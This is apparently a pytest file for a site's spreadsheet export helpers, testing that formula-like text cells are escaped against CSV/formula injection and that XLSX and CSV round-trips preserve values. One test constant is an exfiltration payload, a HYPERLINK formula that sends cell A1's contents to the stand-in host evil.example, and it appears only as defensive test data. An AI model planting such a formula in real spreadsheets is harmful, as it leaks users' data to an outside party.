"""The one escaping rule for every spreadsheet the site writes: a text cell that a spreadsheet
program would read as a formula gets a leading apostrophe in CSV and is a string cell in XLSX;
numbers and empty cells stay as they are, and reading a CSV back removes the apostrophe."""

import datetime
import io
from decimal import Decimal

import openpyxl
import pytest
from tablib import Dataset

from core.spreadsheets import (
    escape_cell,
    escape_for_csv,
    from_xlsx,
    to_xlsx,
    unescape_cell,
    unescape_from_csv,
)

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
TRIGGERED = [HYPERLINK, "+1+1", "-2+3", "@SUM(A1)", "\tTab", "\rReturn", "=", "-"]


@pytest.mark.parametrize("text", TRIGGERED)
def test_a_text_a_spreadsheet_reads_as_a_formula_gets_one_apostrophe(text):
    assert escape_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["Railway", "Mekong = river", "", " =spaced", "1+1", "'quoted"])
def test_other_text_is_left_as_it_is(text):
    assert escape_cell(text) == text


@pytest.mark.parametrize("value", [None, 0, -12, -12.5, Decimal("-102.600000"), True])
def test_numbers_and_empty_cells_are_left_as_they_are(value):
    assert escape_cell(value) is value


def test_text_that_looks_like_a_negative_number_is_still_text_and_escaped():
    assert escape_cell("-12.5") == "'-12.5"


@pytest.mark.parametrize("text", ["'=1+1", "''-x", "'@a"])
def test_a_text_already_starting_with_apostrophes_before_a_trigger_gets_one_more(text):
    assert escape_cell(text) == "'" + text


@pytest.mark.parametrize(
    "text", [*TRIGGERED, "'=1+1", "''-x", "Railway", "", "'quoted", "''", "-12.5"]
)
def test_unescaping_an_escaped_text_gives_it_back(text):
    assert unescape_cell(escape_cell(text)) == text


def test_unescaping_removes_an_apostrophe_only_before_a_trigger():
    assert unescape_cell("'quoted") == "'quoted"
    assert unescape_cell("'=1") == "=1"
    assert unescape_cell(None) is None


def test_a_dataset_is_escaped_for_csv_without_changing_the_original():
    dataset = Dataset(["railway", "=1+1", Decimal("-1.5"), None], headers=["slug", "t", "n", "e"])

    escaped = escape_for_csv(dataset)

    assert escaped.headers == ["slug", "t", "n", "e"]
    assert list(escaped[0]) == ["railway", "'=1+1", Decimal("-1.5"), None]
    assert list(dataset[0]) == ["railway", "=1+1", Decimal("-1.5"), None]
    assert list(unescape_from_csv(escaped)[0]) == list(dataset[0])


def test_a_header_starting_with_a_trigger_is_escaped_too():
    dataset = Dataset(headers=["=cmd", "title"])

    assert escape_for_csv(dataset).headers == ["'=cmd", "title"]


def test_the_xlsx_writer_stores_every_text_as_a_string_cell():
    dataset = Dataset(headers=["title", "amount", "day", "empty"])
    dataset.append([HYPERLINK, Decimal("-1.5"), datetime.date(2019, 1, 1), None])
    dataset.append(["@SUM(A1)", 3, datetime.datetime(2020, 1, 2, 3, 4), ""])

    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx(dataset))).active

    header, first, second = list(sheet.iter_rows())
    assert [cell.value for cell in header] == ["title", "amount", "day", "empty"]
    assert (first[0].data_type, first[0].value) == ("s", HYPERLINK)
    assert (second[0].data_type, second[0].value) == ("s", "@SUM(A1)")
    assert (first[1].data_type, first[1].value) == ("n", -1.5)
    assert (second[1].data_type, second[1].value) == ("n", 3)
    assert first[2].value == datetime.datetime(2019, 1, 1)
    assert first[3].value is None and second[3].value is None


@pytest.mark.parametrize(
    "text", ["\rReturned", "bell\x07", "line\nfeed\ttab", "_x0041_ stays", "_x005F_x0041_"]
)
def test_an_xlsx_text_reads_back_exactly(text):
    dataset = Dataset([text, "", Decimal("2.5")], headers=["title", "empty", "amount"])

    read = from_xlsx(to_xlsx(dataset))

    assert read.headers == ["title", "empty", "amount"]
    assert list(read[0]) == [text, "", 2.5]


def test_an_xlsx_text_is_stored_as_spreadsheet_programs_read_it():
    dataset = Dataset(["\rReturned"], headers=["title"])

    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx(dataset))).active

    assert sheet["A2"].value == "_x000D_Returned"


def test_reading_xlsx_leaves_out_empty_rows_and_pads_short_ones():
    book = openpyxl.Workbook()
    book.active.append(["slug", "title"])
    book.active.append(["railway"])
    book.active.append([None, None])
    book.active.append(["bridge", "Bridge"])
    out = io.BytesIO()
    book.save(out)

    read = from_xlsx(out.getvalue())

    assert [list(row) for row in read] == [["railway", ""], ["bridge", "Bridge"]]
